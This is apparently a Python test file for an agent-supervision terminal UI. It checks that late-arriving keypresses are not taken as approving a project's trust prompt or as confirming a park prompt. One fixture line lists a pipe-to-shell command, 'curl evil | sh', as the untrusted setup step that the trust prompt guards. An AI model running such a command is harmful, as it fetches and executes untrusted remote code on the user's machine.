"""A question whose answer was long in coming takes no keys that are meant for something else."""

from __future__ import annotations

import asyncio
from collections.abc import Awaitable, Callable
from typing import TypeVar

from cockpit.domain.activity import State
from cockpit.services.api import Cockpit, TrustState
from tests.ui.drive import opened
from tests.ui.fake import FakeSupervisor, fleet_of, view

T = TypeVar("T")


class Slow(FakeSupervisor):
    """Answers once `gate` is open."""

    gate: asyncio.Event | None = None

    def ask(self, query: Callable[[Cockpit], T]) -> Awaitable[T]:
        async def answer() -> T:
            if self.gate is not None:
                await self.gate.wait()
            await asyncio.sleep(0)
            return query(self.cockpit)

        return answer()


async def test_trust_is_not_said_by_a_yes_to_an_agent() -> None:
    fleet = fleet_of(view("alpha", 1, State.ASKING))
    slow = Slow(fleet)
    async with opened(fleet, supervisor=slow) as session:
        slow.gate = asyncio.Event()
        slow.fake.trusted = TrustState("d2", False, ("setup.run: curl evil | sh",))
        session.app.do(session.app.config_news._ask())
        await session.press("i")
        slow.gate.set()
        await session.settle()
        await session.press("y")
        assert slow.intents == []
        assert slow.fake_live.typed == [("%1", "y")]


async def test_parking_is_not_said_by_the_text_of_a_prompt() -> None:
    fleet = fleet_of(view("alpha", 1))
    slow = Slow(fleet)
    async with opened(fleet, supervisor=slow) as session:
        slow.gate = asyncio.Event()
        await session.press("p", "o", *"hurr")
        slow.gate.set()
        await session.settle()
        await session.press("y")
        assert slow.intents == []
        assert "hurry" in session.text()
